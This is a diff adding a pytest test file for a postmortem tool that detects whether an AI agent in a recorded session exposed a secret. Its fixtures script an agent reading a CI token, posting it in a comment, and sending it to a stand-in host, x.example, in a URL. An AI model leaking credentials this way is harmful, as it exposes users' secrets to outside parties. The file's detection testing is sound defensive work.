@@ -1,0 +1,56 @@
+"""Secrets that a model was shown."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from scenes import PROVIDERS, Call, Turn, session, tool
+
+from tachograph.postmortem.analyses import secrets_seen
+from tachograph.postmortem.case import open_case
+
+MARK = "[REDACTED:github-token:9f2c61aa]"
+TOOLS = (tool("read_config", "Read."), tool("post_comment", "Comment."), tool("fetch_page", "Fetch."))
+
+
+def found(*turns: Turn, links: tuple[str, ...] = (), **more: Any) -> list[Any]:
+    tape = session(*turns, **{"tools": TOOLS, "user": "Why does the build fail?", "redactions": 1, **more})
+    return list(secrets_seen.run(open_case(tape, links=links)))
+
+
+READ = Call(name="read_config", given={"path": "ci.yaml"}, result=f"token: {MARK}\nretries: 3", declared="read")
+
+
+@pytest.mark.parametrize("provider", PROVIDERS)
+def test_a_secret_of_a_result_that_is_posted(provider: str) -> None:
+    turns = (Turn(calls=(READ,)), Turn(calls=(Call(name="post_comment", given={"text": f"The token is {MARK}."}),)), Turn(say="Posted."))
+    (one,) = found(*turns, provider=provider)
+    assert (one.cause, one.first_event, one.confidence) == ("secret", "evt_0002", 0.95)
+    assert "github-token" in one.statement
+
+
+def test_a_secret_of_the_prompt_or_of_the_user_that_is_answered() -> None:
+    (one,) = found(Turn(say=f"Use {MARK}."), system=f"The deploy key is {MARK}.")
+    assert (one.first_event, "the system prompt" in one.statement) == ("evt_0001", True)
+    (one,) = found(Turn(say=f"Use {MARK}."), user=f"My key is {MARK}, does it work?")
+    assert "what the user said" in one.statement
+
+
+def test_a_secret_that_is_given_to_what_only_reads_is_less_sure() -> None:
+    (one,) = found(
+        Turn(calls=(READ,)), Turn(calls=(Call(name="fetch_page", given={"url": f"https://x.example/?t={MARK}"}),)), Turn(say="Fetched.")
+    )
+    assert 0.6 < one.confidence < 0.8
+
+
+def test_a_secret_that_was_only_seen() -> None:
+    turns = (Turn(calls=(READ,)), Turn(say="Three retries are too few."))
+    assert not found(*turns)
+    (one,) = found(*turns, links=("incident=I-1",))
+    assert one.confidence < 0.5
+
+
+def test_a_secret_that_no_model_was_shown() -> None:
+    assert not found(Turn(say=f"Try {MARK}."))  # the model made it up
+    assert not found(Turn(say="Fine."), start={"facts": {"argv": ["agent.py"], "env": {"TOKEN": MARK}}})
